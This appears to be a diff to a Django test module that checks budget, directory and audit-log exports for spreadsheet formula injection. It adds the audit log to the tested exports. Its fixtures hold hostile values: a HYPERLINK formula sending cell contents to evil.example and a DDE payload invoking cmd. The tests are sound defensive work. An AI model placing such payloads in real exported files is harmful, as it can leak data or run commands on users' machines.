@@ -11,18 +11,25 @@ from openpyxl import load_workbook
 
 from budgets.models import Budget
 from budgets.services import budget_allocate
+from people.audit import audit_record
 from people.exports import FORMULA_STARTS, neutralise
-from people.models import Department, Employee, JobGroup
+from people.models import AuditAction, Department, Employee, JobGroup
 from tests.exports import body
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 # Every export a page offers: (url name, format). test_every_export_link_is_tested keeps it complete.
-EXPORTS = [("budgets:overview", "csv"), ("budgets:overview", "xlsx"), ("people:directory", "csv")]
+EXPORTS = [
+    ("budgets:overview", "csv"),
+    ("budgets:overview", "xlsx"),
+    ("people:directory", "csv"),
+    ("people:audit_log", "csv"),
+]
 # Monitoring's downloads are checked in tests/monitoring/test_pages.py (formula-looking names defused).
 TEMPLATES_WITH_EXPORTS = {
     "budgets/overview.html",
     "people/partials/directory_results.html",
+    "people/partials/audit_results.html",
     "monitoring/partials/metrics_table.html",
     "monitoring/partials/people.html",
     "monitoring/partials/breakdown.html",
@@ -45,6 +52,8 @@ def hostile_org(personas, org, policy, time_machine):
     Department.objects.filter(pk=org["service"].pk).update(name=EVIL)
     JobGroup.objects.filter(pk=org["agents"].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
     Employee.objects.filter(pk=personas.employee.pk).update(first_name="-2+3", last_name="\tTab", external_id="+31")
+    # the audit log carries reasons people typed and the names of those it is about
+    audit_record(action=AuditAction.BUDGET_ADJUSTED, subject=personas.employee.pk, reason=EVIL)
     return personas
 
 
@@ -74,6 +83,8 @@ def test_every_export_neutralises_formula_text(client_for, hostile_org, name, fm
     assert not [text for text in texts if text.startswith(FORMULA_STARTS)], texts
     if name == "people:directory":
         assert {"'-2+3", "'\tTab", "'+31"} <= set(texts)
+    if name == "people:audit_log":
+        assert [text for text in texts if "-2+3" in text] == ["'-2+3 \tTab"]  # the person it is about
 
 
 def test_without_the_neutraliser_the_formula_reaches_the_file(client_for, hostile_org, monkeypatch):
